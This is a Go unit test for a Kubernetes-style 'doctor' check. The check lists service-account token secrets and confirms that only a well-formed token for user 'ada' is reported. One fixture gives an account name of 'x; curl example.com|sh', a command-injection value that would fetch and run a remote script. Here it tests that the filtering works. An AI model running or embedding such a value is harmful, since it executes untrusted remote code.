package doctor

import (
	"context"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/scheme"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/muster-dev/muster/api/v1alpha1"
)

// TestTokensOfAccounts: the advice is a command for an administrator, so a user may not write any
// words into it.
func TestTokensOfAccounts(t *testing.T) {
	namespace := func(name string, labels map[string]string) *corev1.Namespace {
		return &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}
	}
	secret := func(namespace, name, account string) *corev1.Secret {
		return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Annotations: map[string]string{corev1.ServiceAccountNameKey: account}}, Type: corev1.SecretTypeServiceAccountToken}
	}
	objects := fake.NewClientBuilder().WithScheme(scheme.Scheme).WithObjects(
		namespace("ada", map[string]string{v1alpha1.LabelUser: "ada"}), namespace("other", nil),
		secret("ada", "forever", "ada"), secret("ada", "odd", "x; curl example.com|sh"), secret("ada", "none", ""), secret("other", "forever", "other"),
	).Build()
	server := interceptor.NewClient(objects, interceptor.Funcs{
		List: func(ctx context.Context, c client.WithWatch, list client.ObjectList, opts ...client.ListOption) error {
			// Metadata has no type, by which the fake client could select.
			opts = slices.DeleteFunc(slices.Clone(opts), func(o client.ListOption) bool { _, is := o.(client.MatchingFields); return is })
			return c.List(ctx, list, opts...)
		},
	})
	users, found, err := tokens(t.Context(), server)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]token{{"ada", "forever", "ada"}}, found, cmp.AllowUnexported(token{})); diff != "" || len(users) != 1 {
		t.Errorf("users %v, tokens (-want +got):\n%s", users, diff)
	}
}
